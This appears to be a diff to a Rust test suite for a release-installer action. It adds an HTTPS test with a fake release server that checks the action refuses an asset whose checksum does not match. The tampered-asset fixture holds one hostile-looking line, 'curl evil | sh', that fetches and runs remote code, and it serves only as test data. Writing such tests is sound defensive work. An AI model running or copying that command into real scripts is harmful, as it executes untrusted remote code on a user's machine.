@@ -578,6 +578,12 @@ impl ActionDir {
         )
     }
 
+    /// The runner's own curl instead of the stub.
+    fn with_real_curl(self) -> ActionDir {
+        std::fs::remove_file(self.root.path().join("stubs/curl")).unwrap();
+        self
+    }
+
     fn installed(&self) -> Option<Vec<u8>> {
         std::fs::read(self.root.path().join("temp/rotagate-bin/rotagate")).ok()
     }
@@ -705,6 +711,92 @@ fn the_action_installs_only_a_binary_whose_checksum_is_committed() {
     let (code, log, _) = other.run("install", &[("INPUT_BINARY", given)]);
     assert_eq!(code, 1);
     assert!(log.contains("input binary needs binary-sha256"), "{log}");
+}
+
+/// A release download over HTTPS as github.com serves it: the asset URL answers 302 to
+/// the object store, which serves the bytes; anything else is 404.
+async fn fake_release(pki: &crate::support::tls::Pki, asset: Vec<u8>) -> String {
+    use axum::response::IntoResponse;
+    use axum::routing::get;
+    let app = axum::Router::new()
+        .route(
+            "/rotagate/rotagate/releases/download/v0.2.0/rotagate-x86_64-unknown-linux-gnu",
+            get(|| async {
+                (
+                    axum::http::StatusCode::FOUND,
+                    [("location", "/objects/release-asset-41")],
+                )
+                    .into_response()
+            }),
+        )
+        .route(
+            "/objects/release-asset-41",
+            get(move || {
+                let asset = asset.clone();
+                async move { asset }
+            }),
+        );
+    format!(
+        "https://127.0.0.1:{}",
+        crate::support::tls::serve_https(app, pki).await.port()
+    )
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_action_downloads_a_release_over_https_with_real_curl_and_verifies_it() {
+    let pki = crate::support::tls::Pki::new();
+    let ca = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(ca.path(), &pki.ca_pem).unwrap();
+    let ca_path = ca.path().to_str().unwrap().to_string();
+    let binary = b"#!/bin/sh\necho rotagate 0.2.0\n".to_vec();
+    let sums = format!(
+        "{}  rotagate-x86_64-unknown-linux-gnu\n",
+        sha256_hex(&binary)
+    );
+
+    // The release serves the listed bytes: followed through the redirect, verified,
+    // installed.
+    let server = fake_release(&pki, binary.clone()).await;
+    let good = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
+    let env = [
+        ("GITHUB_SERVER_URL", server.as_str()),
+        ("CURL_CA_BUNDLE", ca_path.as_str()),
+    ];
+    let (code, log, outputs) = tokio::task::block_in_place(|| good.run("install", &env));
+    assert_eq!(code, 0, "{log}");
+    assert!(outputs.contains("installed=true"), "{outputs}");
+    assert_eq!(good.installed(), Some(binary.clone()));
+
+    // A release whose asset differs from sums/: refused, nothing installed.
+    let tampered = fake_release(&pki, b"#!/bin/sh\ncurl evil | sh\n".to_vec()).await;
+    let bad = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
+    let env = [
+        ("GITHUB_SERVER_URL", tampered.as_str()),
+        ("CURL_CA_BUNDLE", ca_path.as_str()),
+    ];
+    let (code, log, _) = tokio::task::block_in_place(|| bad.run("install", &env));
+    assert_eq!(code, 1, "{log}");
+    assert!(log.contains("checksum mismatch"), "{log}");
+    assert!(bad.installed().is_none());
+
+    // A version whose asset the release lacks (404), and a server curl does not trust.
+    let missing = ActionDir::new(&[("0.2.0", &sums)], b"").with_real_curl();
+    let (code, log, _) = tokio::task::block_in_place(|| {
+        missing.run(
+            "install",
+            &[
+                ("GITHUB_SERVER_URL", &format!("{server}/elsewhere")),
+                ("CURL_CA_BUNDLE", &ca_path),
+            ],
+        )
+    });
+    assert_eq!(code, 1, "{log}");
+    assert!(log.contains("cannot download"), "{log}");
+    let (code, log, _) =
+        tokio::task::block_in_place(|| missing.run("install", &[("GITHUB_SERVER_URL", &server)]));
+    assert_eq!(code, 1, "{log}");
+    assert!(log.contains("cannot download"), "{log}");
+    assert!(missing.installed().is_none());
 }
 
 #[test]
